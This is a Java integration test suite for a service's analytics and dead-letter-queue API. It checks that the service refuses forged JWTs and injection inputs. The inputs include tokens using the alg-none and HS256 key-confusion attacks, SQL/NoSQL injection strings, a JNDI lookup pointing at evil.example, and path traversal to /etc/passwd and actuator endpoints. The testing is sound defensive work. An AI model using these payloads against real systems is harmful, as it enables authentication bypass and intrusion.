package com.bellyfed.analytics;

import static com.bellyfed.analytics.AnalyticsFixtures.data;
import static com.bellyfed.testing.HttpApi.encode;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.bellyfed.events.envelope.EventEnvelope;
import com.bellyfed.events.topology.Topology;
import com.bellyfed.kit.security.Actor;
import com.bellyfed.localaws.LocalAws;
import com.bellyfed.localaws.cognito.CognitoService.SignedIn;
import com.bellyfed.testing.EventTap;
import com.bellyfed.testing.HttpApi;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalManagementPort;
import org.springframework.boot.test.web.server.LocalServerPort;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;
import software.amazon.awssdk.services.dynamodb.model.ScanResponse;
import software.amazon.awssdk.services.dynamodb.model.Select;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Issue 18's hostile-input suite against the real service over real HTTP, with real tokens from local-aws's
 * user pool: refused tokens, a plain user on the admin APIs, injection and traversal in filters, cursors, queue
 * names and ids, absurd dates and numbers, deep and broken JSON, oversized requests. Each gets a 4xx
 * problem+json that names what was wrong, and nothing moves: no replay job is written (and no event reaches
 * the private bus every would-be replay targets), no dead-letter or source queue gains or loses a message, and
 * the service still reports itself UP on its management port.
 *
 * <p>The service's token checks are service-kit's ({@code ResourceServerIntegrationTests} proves them on a
 * test application); here they run once against this service's own chain and endpoints.
 */
@AnalyticsIntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AnalyticsHostileInputIntegrationTests {

  private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
  private static final String TEN_THOUSAND_DIGITS = "9".repeat(10_000);
  private static final String JSON = "application/json";
  /** The flows whose queues no listener of this service drains, so that their depths stand still unless a request moves them. */
  private static final List<String> WATCHED_FLOWS = List.of("import", "rating");

  @LocalServerPort int port;
  @LocalManagementPort int managementPort;
  @Autowired Topology topology;
  @Autowired DynamoDbClient dynamoDb;
  @Autowired JsonMapper json;

  private LocalAws localAws;
  private EventTap tap;
  private String deadLetterQueue;
  private String sourceQueue;
  /** A message of the import DLQ and one of the import queue (not a DLQ), which hostile requests try to reach. */
  private String deadLetterId;
  private String queuedId;
  /** A replay body that would start a job: one archived event in its window, the tap's bus as its target. */
  private String replay;
  private String admin;
  private String user;
  private final Map<String, String> refusedTokens = new LinkedHashMap<>();
  private Untouched before;

  @BeforeAll
  void arrange(LocalAws localAws) throws Exception {
    this.localAws = localAws;
    deadLetterQueue = topology.deadLetterQueue("import").name();
    sourceQueue = topology.queue("import").name();
    tap = EventTap.newBus(localAws.sqs(), localAws.eventBridge());

    String source = "bellyfed.hostile" + UUID.randomUUID().toString().substring(0, 8).replaceAll("[^a-z]", "x");
    String correlationId = UUID.randomUUID().toString();
    Instant at = Instant.now().truncatedTo(ChronoUnit.SECONDS);
    EventEnvelope archived = AnalyticsFixtures.envelope("restaurant.listing.updated", source, at, correlationId, null, 1,
        data("restaurantId", "r-hostile"));
    localAws.eventBridge().putEvents(request -> request.entries(entry -> entry.eventBusName(topology.bus("restaurant").name())
        .source(source).detailType("ListingUpdated").detail(AnalyticsFixtures.JSON.write(archived))));
    SignedInApi operator = SignedInApi.admin(port, localAws);
    await().atMost(Duration.ofSeconds(30))
        .until(() -> operator.get("/api/events?correlationId=" + correlationId).json().path("count").asInt() == 1);
    replay = HttpApi.json(Map.of("from", at.minusSeconds(60).toString(), "to", at.plusSeconds(60).toString(),
        "sources", List.of(source), "targetBus", tap.bus(), "ratePerSecond", 500));

    deadLetterId = localAws.sqs().sendMessage(request -> request.queueUrl(url(deadLetterQueue)).messageBody("{\"hostile\":\"dead letter\"}"))
        .messageId();
    queuedId = localAws.sqs().sendMessage(request -> request.queueUrl(url(sourceQueue)).messageBody("{\"hostile\":\"queued\"}")).messageId();

    admin = "Bearer " + SignedInApi.token(localAws, SignedInApi.ADMIN, Actor.ADMIN);
    user = "Bearer " + SignedInApi.token(localAws, SignedInApi.USER);
    refusedTokens();
    before = Untouched.take(this);
  }

  @AfterAll
  void nothingWasPublished() {
    try {
      // A replay started by any request above would have published the archived event to the tap's bus by now.
      assertThat(tap.receive(1)).as("events published by replays").isEmpty();
      assertThat(Untouched.take(this)).isEqualTo(before);
    } finally {
      tap.close();
    }
  }

  // ---------------------------------------------------------------------------------------------- tokens

  /**
   * Tokens the service must refuse, each otherwise an admin's (group {@code admin}), so that only what is broken
   * keeps it out, with the words its answer must name. Signed by the pool's real keys unless said otherwise.
   */
  private void refusedTokens() throws Exception {
    Instant now = Instant.now();
    SignedIn signedIn = localAws.signIn(SignedInApi.ADMIN, Actor.ADMIN);
    String access = signedIn.accessToken();
    JWTClaimsSet claims = SignedJWT.parse(access).getJWTClaimsSet();
    String kid = SignedJWT.parse(access).getHeader().getKeyID();

    refusedTokens.put("expired", bearer(localAws.signIn(SignedInApi.ADMIN,
        token -> token.issueTime(Date.from(now.minus(Duration.ofHours(2)))).expirationTime(Date.from(now.minus(Duration.ofMinutes(5)))),
        Actor.ADMIN).accessToken()) + "|expired");
    refusedTokens.put("not yet valid", bearer(localAws.signIn(SignedInApi.ADMIN,
        token -> token.notBeforeTime(Date.from(now.plus(Duration.ofMinutes(10)))), Actor.ADMIN).accessToken()) + "|used before");
    refusedTokens.put("another issuer", bearer(localAws.signIn(SignedInApi.ADMIN,
        token -> token.issuer("https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Other"), Actor.ADMIN).accessToken()) + "|iss");
    refusedTokens.put("another client", bearer(localAws.signIn(SignedInApi.ADMIN,
        token -> token.claim("client_id", "someone-elses-app"), Actor.ADMIN).accessToken()) + "|another client");
    refusedTokens.put("an ID token", bearer(signedIn.idToken()) + "|access tokens");
    refusedTokens.put("alg none", bearer(new PlainJWT(claims).serialize()) + "|");
    // The key-confusion attack: HS256 keyed with the pool's published RSA public key, under that key's kid.
    RSAKey published = publishedKey(kid);
    SignedJWT confused = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.HS256).keyID(kid).build(), claims);
    confused.sign(new MACSigner(published.toRSAPublicKey().getEncoded()));
    refusedTokens.put("HS256 keyed with the public key", bearer(confused.serialize()) + "|");
    String[] parts = access.split("\\.");
    byte[] signature = new Base64URL(parts[2]).decode();
    signature[10] ^= 0x01;
    refusedTokens.put("a tampered signature", bearer(parts[0] + "." + parts[1] + "." + Base64URL.encode(signature)) + "|");
    String[] plain = localAws.signIn(SignedInApi.USER).accessToken().split("\\.");
    refusedTokens.put("admin claims under a user's signature", bearer(plain[0] + "." + parts[1] + "." + plain[2]) + "|");
    RSAKey unknown = new RSAKeyGenerator(2048).keyID("not-in-the-jwks").generate();
    SignedJWT unknownKid = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(unknown.getKeyID()).build(), claims);
    unknownKid.sign(new RSASSASigner(unknown));
    refusedTokens.put("an unknown kid", bearer(unknownKid.serialize()) + "|");
    refusedTokens.put("a malformed bearer token", "Bearer ' OR '1'='1|malformed");
  }

  Stream<Arguments> refusedTokenCases() {
    List<Arguments> cases = new ArrayList<>();
    // A read, and every kind of write: a replay, a redrive, a delete.
    List<Request> targets = List.of(Request.get("/api/errors"), Request.post("/api/replays", JSON, replay),
        Request.post("/api/dlqs/" + deadLetterQueue + "/redrive", JSON, "{}"),
        Request.delete("/api/dlqs/" + deadLetterQueue + "/messages/" + deadLetterId));
    for (Request request : targets) {
      cases.add(Arguments.of("no token", request, null, "bearer token"));
      cases.add(Arguments.of("Basic credentials", request, "Basic YWRtaW46YWRtaW4=", "bearer token"));
      refusedTokens.forEach((name, value) -> {
        int bar = value.lastIndexOf('|');
        cases.add(Arguments.of(name, request, value.substring(0, bar), value.substring(bar + 1)));
      });
    }
    return cases.stream();
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("refusedTokenCases")
  void aRefusedTokenIs401WithAChallengeAndReachesNothing(String name, Request request, @Nullable String authorization, String named) {
    HttpResponse<String> answer = request.send(port, authorization);

    JsonNode problem = assertProblem(answer, 401, "unauthorized");
    String challenge = answer.headers().firstValue("WWW-Authenticate").orElseThrow();
    if (authorization == null || !authorization.startsWith("Bearer ")) {
      // RFC 6750 section 3.1: no error code when the request carried no bearer token.
      assertThat(challenge).isEqualTo("Bearer");
    } else {
      assertThat(challenge).startsWith("Bearer error=\"invalid_token\", error_description=\"");
      assertThat(challenge).containsIgnoringCase(named);
    }
    assertThat(problem.path("detail").asString()).isNotBlank().containsIgnoringCase(named);
    assertNothingMovedAndHealthy();
  }

  // ---------------------------------------------------------------------------------------------- access

  Stream<Request> everyOperation() {
    return adminOperations().stream();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("everyOperation")
  void aSignedInUserWhoIsNoAdminGets403OnEveryOperation(Request request) {
    HttpResponse<String> answer = request.send(port, user);

    JsonNode problem = assertProblem(answer, 403, "forbidden");
    assertThat(problem.path("detail").asString()).isNotBlank();
    // RFC 6750 section 3.1: a valid token without the rights asked for.
    assertThat(answer.headers().firstValue("WWW-Authenticate")).hasValueSatisfying(
        challenge -> assertThat(challenge).startsWith("Bearer error=\"insufficient_scope\""));
    assertNothingMovedAndHealthy();
  }

  Stream<Request> everyRead() {
    return adminOperations().stream().filter(request -> !request.mutates());
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("everyRead")
  void anAdminReachesTheReadsTheUserWasRefused(Request request) {
    // The same reads as above, as an admin (an event and a job nobody has are 404): the 403s were about the caller.
    HttpResponse<String> answer = request.send(port, admin);
    assertThat(answer.statusCode()).as(request + ": " + answer.body()).isIn(200, 404);
  }

  /** The service's eleven operations; the writes aim at the import DLQ's message and the would-be replay. */
  private List<Request> adminOperations() {
    String job = UUID.randomUUID().toString();
    return List.of(
        Request.get("/api/analytics/summary?service=query-service"),
        Request.get("/api/analytics/events?service=query-service"),
        Request.get("/api/errors"),
        Request.get("/api/events?correlationId=" + UUID.randomUUID()),
        Request.get("/api/replays/" + job),
        Request.get("/api/dlqs"),
        Request.get("/api/dlqs/" + deadLetterQueue + "/messages"),
        Request.post("/api/replays", JSON, replay),
        Request.post("/api/replays/" + job + "/cancel"),
        Request.post("/api/dlqs/" + deadLetterQueue + "/redrive", JSON, "{}"),
        Request.delete("/api/dlqs/" + deadLetterQueue + "/messages/" + deadLetterId));
  }

  // ---------------------------------------------------------------------------------------------- input

  /** An admin's hostile request: what it must be answered with, and the word (a field, a reason) the answer names. */
  Stream<Arguments> hostileInput() {
    String dlq = deadLetterQueue;
    String queue = sourceQueue;
    String window = "\"from\":\"2026-01-01T00:00:00Z\",\"to\":\"2026-01-01T01:00:00Z\"";
    return Stream.of(
        // filters: SQL, NoSQL, expression and template injection, NUL, absurd lengths
        invalid(Request.get("/api/events?correlationId=" + encode("' OR '1'='1")), "correlationId"),
        invalid(Request.get("/api/events?correlationId=" + encode("{\"$ne\":null}")), "correlationId"),
        invalid(Request.get("/api/events?correlationId=" + encode("${jndi:ldap://evil.example/a}")), "correlationId"),
        invalid(Request.get("/api/events?correlationId=" + encode("#{7*7}") + "&type=" + encode("' OR 1=1 --") + "&from=" + TEN_THOUSAND_DIGITS),
            "correlationId"),
        invalid(Request.get("/api/events?correlationId=%00"), "correlationId"),
        invalid(Request.get("/api/events?correlationId=" + TEN_THOUSAND_DIGITS), "correlationId"),
        invalid(Request.get("/api/events?correlationId=" + encode("../../etc/passwd")), "correlationId"),
        // Not UTF-8 once percent-decoded: each such parameter named (service-kit's query-string filter).
        invalid(Request.get("/api/events?correlationId=%C3%28&type=%FF"), "correlationId", "type"),
        invalid(Request.get("/api/errors?service=" + encode("' OR '1'='1")), "service"),
        invalid(Request.get("/api/errors?service=" + encode("{\"$gt\":\"\"}") + "&severity=" + encode("HIGH' OR 'a'='a")), "service",
            "severity"),
        invalid(Request.get("/api/errors?severity=" + encode("$where: sleep(1000)")), "severity"),
        invalid(Request.get("/api/errors?service=a%00b"), "service"),
        invalid(Request.get("/api/errors?from=" + encode("+1000000000-01-01T00:00:00Z")), "from"),
        invalid(Request.get("/api/errors?to=" + encode("-1000000000-01-01T00:00:00Z")), "to"),
        invalid(Request.get("/api/errors?from=" + TEN_THOUSAND_DIGITS + "&to=" + encode("+" + TEN_THOUSAND_DIGITS + "-01-01T00:00:00Z")),
            "from", "to"),
        invalid(Request.get("/api/errors?limit=" + TEN_THOUSAND_DIGITS), "limit"),
        invalid(Request.get("/api/errors?limit=-1"), "limit"),
        invalid(Request.get("/api/errors?cursor=" + encode("' OR 1=1 --")), "cursor"),
        invalid(Request.get("/api/errors?cursor=" + encode("{\"$gt\":\"\"}")), "cursor"),
        invalid(Request.get("/api/errors?severity=HIGH&cursor=" + "A".repeat(3_000)), "cursor"),
        invalid(Request.get("/api/analytics/events?service=" + encode("query-service#*") + "&eventType=*"), "service", "eventType"),
        invalid(Request.get("/api/analytics/events?service=query-service&cursor=" + encode("eyJrIjp7fX0.' UNION SELECT")), "cursor"),
        invalid(Request.get("/api/analytics/summary?service=a&eventType=" + encode("RESTAURANT#x")), "eventType"),
        invalid(Request.get("/api/analytics/summary?service=%00"), "service"),
        invalid(Request.get("/api/analytics/summary?service=a&from=" + encode("0000-12-31T23:59:59Z") + "&to=" + encode("+10000-01-01T00:00:00Z")),
            "from", "to"),
        invalid(Request.get("/api/analytics/summary?service=a&to=" + encode("-1000000000-01-01T00:00:00Z")), "to"),
        // dead-letter queues: traversal to, and the names of, queues that are not DLQs; injection in message ids
        problem(Request.get("/api/dlqs/" + queue + "/messages"), 404, "not-found", "not a dead-letter queue"),
        problem(Request.post("/api/dlqs/" + queue + "/redrive", JSON, "{}"), 404, "not-found", "not a dead-letter queue"),
        problem(Request.post("/api/dlqs/" + queue + "/redrive", JSON, "{\"messageIds\":[\"" + queuedId + "\"]}"), 404, "not-found",
            "not a dead-letter queue"),
        problem(Request.delete("/api/dlqs/" + queue + "/messages/" + queuedId), 404, "not-found", "not a dead-letter queue"),
        problem(Request.get("/api/dlqs/" + encode("arn:aws:sqs:us-east-1:000000000000:" + queue) + "/messages"), 404, "not-found",
            "not a dead-letter queue"),
        problem(Request.get("/api/dlqs/" + encode("dev-import-*") + "/messages"), 404, "not-found", "not a dead-letter queue"),
        problem(Request.post("/api/dlqs/" + encode(dlq + "' OR '1'='1") + "/redrive", JSON, "{}"), 404, "not-found",
            "not a dead-letter queue"),
        invalid(Request.delete("/api/dlqs/" + dlq + "/messages/" + encode("' OR '1'='1")), "messageId"),
        invalid(Request.delete("/api/dlqs/" + dlq + "/messages/" + TEN_THOUSAND_DIGITS), "messageId"),
        invalid(Request.delete("/api/dlqs/" + dlq + "/messages/" + encode("*")), "messageId"),
        invalid(Request.post("/api/dlqs/" + dlq + "/redrive", JSON, "{\"messageIds\":[\"' OR 1=1 --\",\"*\"]}"), "messageIds"),
        invalid(Request.post("/api/dlqs/" + dlq + "/redrive", JSON, "{\"messageIds\":[\"" + deadLetterId + "\",\"a\\u0000b\"]}"),
            "messageIds"),
        invalid(Request.post("/api/dlqs/" + dlq + "/redrive", JSON, "{\"messageIds\":\"*\"}"), "messageIds"),
        invalid(Request.post("/api/dlqs/" + dlq + "/redrive", JSON, "{\"messageIds\":[{\"$ne\":null}]}"), "messageIds[0]"),
        invalid(Request.get("/api/dlqs/" + dlq + "/messages?limit=" + TEN_THOUSAND_DIGITS), "limit"),
        // replays: absurd ranges and numbers, injection in filters, ids and the target bus
        invalid(Request.post("/api/replays", JSON, "{\"from\":\"-1000000000-01-01T00:00:00Z\",\"to\":\"+1000000000-12-31T23:59:59Z\"}"),
            "from", "to"),
        invalid(Request.post("/api/replays", JSON, "{\"from\":\"0001-01-01T00:00:00Z\",\"to\":\"9999-12-31T23:59:59Z\"}"), "to"),
        invalid(Request.post("/api/replays", JSON, "{\"from\":\"" + TEN_THOUSAND_DIGITS + "\",\"to\":\"+" + TEN_THOUSAND_DIGITS
            + "-01-01T00:00:00Z\"}"), "from", "to"),
        // Jackson refuses numbers over 1,000 digits while parsing (StreamReadConstraints), before any field is bound.
        invalid(Request.post("/api/replays", JSON, "{" + window + ",\"ratePerSecond\":" + TEN_THOUSAND_DIGITS + "}"), "body"),
        invalid(Request.post("/api/replays", JSON, "{" + window + ",\"ratePerSecond\":-" + TEN_THOUSAND_DIGITS + ".5}"), "body"),
        invalid(Request.post("/api/replays", JSON, "{" + window + ",\"ratePerSecond\":1e400}"), "body"),
        invalid(Request.post("/api/replays", JSON, "{" + window + ",\"sources\":[\"' OR 1=1 --\"],\"eventTypes\":[\"#{7*7}\"]}"),
            "sources", "eventTypes"),
        invalid(Request.post("/api/replays", JSON, "{" + window + ",\"eventTypes\":[{\"$ne\":null}]}"), "eventTypes[0]"),
        invalid(Request.post("/api/replays", JSON, "{" + window + ",\"sources\":[\"a\\u0000b\"]}"), "sources"),
        invalid(Request.post("/api/replays", JSON, "{\"from\":\"2026-01-01T00:00:00Z\\u0000\",\"to\":\"2026-01-01T01:00:00Z\"}"), "from"),
        invalid(Request.post("/api/replays", JSON, "{" + window + ",\"targetBus\":\"" + tap.bus() + "' OR 1=1\"}"), "targetBus"),
        invalid(Request.post("/api/replays", JSON, "{" + window + ",\"targetBus\":\"arn:aws:events:us-east-1:000000000000:event-bus/"
            + tap.bus() + "\"}"), "targetBus"),
        invalid(Request.post("/api/replays", JSON, "{" + window + ",\"targetBus\":\"../" + tap.bus() + "\"}"), "targetBus"),
        invalid(Request.get("/api/replays/" + encode("' OR '1'='1")), "jobId"),
        invalid(Request.post("/api/replays/" + TEN_THOUSAND_DIGITS + "/cancel"), "jobId"),
        invalid(Request.get("/api/replays/" + encode("{\"$ne\":null}")), "jobId"),
        // structure and encoding of bodies
        // 10,000 levels where a text is due fail at the first level; under a property nobody reads, Jackson walks them
        // and stops at its nesting limit (StreamReadConstraints, 500 levels).
        invalid(Request.post("/api/replays", JSON, "{\"from\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}"), "from"),
        invalid(Request.post("/api/replays", JSON, "{\"deep\":" + "[".repeat(10_000) + "]".repeat(10_000) + "," + window + "}"), "body"),
        invalid(Request.post("/api/dlqs/" + dlq + "/redrive", JSON, "{\"messageIds\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}"),
            "messageIds[0]"),
        invalid(Request.post("/api/replays", JSON, bytes("{\"from\":\"", new byte[] {(byte) 0xC3, 0x28}, "\",\"to\":\"2026-01-01T01:00:00Z\"}")),
            "body"),
        // A raw NUL inside a JSON string is not JSON (control characters must be escaped).
        invalid(Request.post("/api/replays", JSON, bytes("{\"from\":\"2026-01-01T00:00:00Z", new byte[] {0}, "\",\"to\":\"2026-01-01T01:00:00Z\"}")),
            "body"),
        invalid(Request.post("/api/replays", JSON, "{" + window + ",\"sources\":[\"" + "\\ud800" + "\"]}"), "sources"),
        problem(Request.post("/api/replays", JSON, "{" + window + ",\"sources\":[\"" + "x".repeat(100_000) + "\"]}"), 413,
            "payload-too-large", "65536"),
        problem(Request.get("/api/errors").with("X-Padding", "p".repeat(20_000)), 431, "headers-too-large", "16"),
        problem(Request.post("/api/replays", "text/plain", replay), 415, "unsupported-media-type", "text/plain"));
  }

  /**
   * Traversal and smuggling in the path itself: an encoded slash, dot, backslash, NUL or a path parameter never
   * reaches a controller, so no queue name or id can be assembled from it. Tomcat refuses some (%2F, %5C, %00)
   * before the application (service-kit's error report valve answers), Spring Security's firewall the others
   * (service-kit's rejected-request handler): each a 400 problem saying what was refused, never Tomcat's HTML page.
   */
  Stream<Request> hostileUrls() {
    String dlq = deadLetterQueue;
    String queue = sourceQueue;
    return Stream.of(
        Request.get("/api/dlqs/..%2F" + queue + "/messages"),
        Request.post("/api/dlqs/..%2F" + queue + "/redrive", JSON, "{}"),
        Request.delete("/api/dlqs/" + dlq + "%2F..%2F" + queue + "/messages/" + queuedId),
        Request.get("/api/dlqs/%2e%2e/messages"),
        Request.get("/api/dlqs/" + dlq + ";name=" + queue + "/messages"),
        Request.get("/api/dlqs/" + dlq + "%5C..%5C" + queue + "/messages"),
        Request.delete("/api/dlqs/" + dlq + "/messages/..%2F..%2F" + queue),
        Request.delete("/api/dlqs/" + dlq + "/messages/%00"),
        Request.get("/api/replays/..%2F..%2Factuator%2Fenv"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileUrls")
  void aHostileUrlIsRefusedBeforeAnyControllerAndMovesNothing(Request request) {
    HttpResponse<String> answer = request.send(port, admin);

    JsonNode problem = assertProblem(answer, 400, "invalid-request");
    assertThat(problem.path("detail").asString()).as(answer.body())
        .containsAnyOf("refused before it reached the service", "refused by the server's firewall");
    assertThat(answer.body()).doesNotContain("Exception", "at com.", "software.amazon", "hostile").doesNotContainIgnoringCase("tomcat");
    assertNothingMovedAndHealthy();
  }

  @ParameterizedTest(name = "{0} -> {1}")
  @MethodSource("hostileInput")
  void hostileInputIsAClearProblemAndMovesNothing(Request request, int status, String kind, List<String> named) {
    HttpResponse<String> answer = request.send(port, admin);

    JsonNode problem = assertProblem(answer, status, kind);
    if (kind.equals("invalid-request")) {
      assertThat(problem.path("errors").findValuesAsString("field")).as(answer.body()).containsExactlyInAnyOrderElementsOf(named);
      problem.path("errors").forEach(error -> assertThat(error.path("reason").asString()).isNotBlank());
    } else {
      assertThat(problem.path("detail").asString()).as(answer.body()).containsIgnoringCase(named.get(0));
    }
    assertNothingMovedAndHealthy();
  }

  // ---------------------------------------------------------------------------------------------- checks

  private JsonNode assertProblem(HttpResponse<String> answer, int status, String kind) {
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(status);
    assertThat(answer.headers().firstValue("Content-Type")).as(answer.body())
        .hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
    JsonNode problem = json.readTree(answer.body());
    assertThat(problem.path("type").asString()).isEqualTo("urn:bellyfed:problem:" + kind);
    assertThat(problem.path("status").asInt()).isEqualTo(status);
    assertThat(answer.body()).doesNotContain("Exception", "at com.", "software.amazon");
    return problem;
  }

  private void assertNothingMovedAndHealthy() {
    assertThat(Untouched.take(this)).isEqualTo(before);
    HttpApi.Answer health = new HttpApi(managementPort).get("/actuator/health");
    assertThat(health.status()).isEqualTo(200);
    assertThat(health.body()).contains("\"status\":\"UP\"");
  }

  /** What a hostile request must not change: the replay jobs written, and the watched queues' depths. */
  record Untouched(long replayJobs, Map<String, Long> depths) {

    static Untouched take(AnalyticsHostileInputIntegrationTests test) {
      long jobs = 0;
      Map<String, AttributeValue> start = null;
      String table = test.topology.table("replay-jobs").name();
      do {
        Map<String, AttributeValue> from = start;
        ScanResponse page = test.dynamoDb.scan(scan -> scan.tableName(table).select(Select.COUNT).consistentRead(true).exclusiveStartKey(from));
        jobs += page.count();
        start = page.hasLastEvaluatedKey() && !page.lastEvaluatedKey().isEmpty() ? page.lastEvaluatedKey() : null;
      } while (start != null);
      Map<String, Long> depths = new LinkedHashMap<>();
      for (String flow : WATCHED_FLOWS) {
        for (String queue : List.of(test.topology.queue(flow).name(), test.topology.deadLetterQueue(flow).name())) {
          Map<String, String> attributes = test.localAws.sqs().getQueueAttributes(request -> request.queueUrl(test.url(queue))
              .attributeNamesWithStrings("ApproximateNumberOfMessages", "ApproximateNumberOfMessagesNotVisible")).attributesAsStrings();
          depths.put(queue + " visible", Long.parseLong(attributes.get("ApproximateNumberOfMessages")));
          depths.put(queue + " in flight", Long.parseLong(attributes.get("ApproximateNumberOfMessagesNotVisible")));
        }
      }
      return new Untouched(jobs, depths);
    }
  }

  private String url(String queue) {
    return localAws.sqs().getQueueUrl(request -> request.queueName(queue)).queueUrl();
  }

  /** The pool's published signing key of this kid, read from its JWKS as any client can. */
  private RSAKey publishedKey(String kid) throws Exception {
    URI jwks = URI.create(localAws.userPool().issuer() + "/.well-known/jwks.json");
    String body = HTTP.send(HttpRequest.newBuilder(jwks).GET().build(), HttpResponse.BodyHandlers.ofString()).body();
    return JWKSet.parse(body).getKeyByKeyId(kid).toRSAKey();
  }

  private static String bearer(String token) {
    return "Bearer " + token;
  }

  private static byte[] bytes(String head, byte[] middle, String tail) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(head.getBytes(StandardCharsets.UTF_8));
    out.writeBytes(middle);
    out.writeBytes(tail.getBytes(StandardCharsets.UTF_8));
    return out.toByteArray();
  }

  private static Arguments invalid(Request request, String... fields) {
    return Arguments.of(request, 400, "invalid-request", List.of(fields));
  }

  private static Arguments problem(Request request, int status, String kind, String named) {
    return Arguments.of(request, status, kind, List.of(named));
  }

  /** One request as sent, byte for byte: the path is not normalized or re-encoded on the way. */
  record Request(String method, String path, @Nullable String contentType, byte @Nullable [] body, List<String> headers) {

    static Request get(String path) {
      return new Request("GET", path, null, null, List.of());
    }

    static Request post(String path) {
      return new Request("POST", path, null, null, List.of());
    }

    static Request post(String path, String contentType, String body) {
      return new Request("POST", path, contentType, body.getBytes(StandardCharsets.UTF_8), List.of());
    }

    static Request post(String path, String contentType, byte[] body) {
      return new Request("POST", path, contentType, body, List.of());
    }

    static Request delete(String path) {
      return new Request("DELETE", path, null, null, List.of());
    }

    Request with(String name, String value) {
      List<String> more = new ArrayList<>(headers);
      more.add(name);
      more.add(value);
      return new Request(method, path, contentType, body, more);
    }

    boolean mutates() {
      return !method.equals("GET");
    }

    HttpResponse<String> send(int port, @Nullable String authorization) {
      HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path)).timeout(Duration.ofSeconds(30))
          .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
      if (contentType != null) {
        request.header("Content-Type", contentType);
      }
      if (authorization != null) {
        request.header("Authorization", authorization);
      }
      for (int i = 0; i < headers.size(); i += 2) {
        request.header(headers.get(i), headers.get(i + 1));
      }
      try {
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
      } catch (IOException e) {
        throw new IllegalStateException(this + " failed", e);
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
        throw new IllegalStateException(e);
      }
    }

    @Override
    public String toString() {
      String shown = path.length() > 120 ? path.substring(0, 120) + "...(" + path.length() + " characters)" : path;
      return method + " " + shown;
    }
  }
}
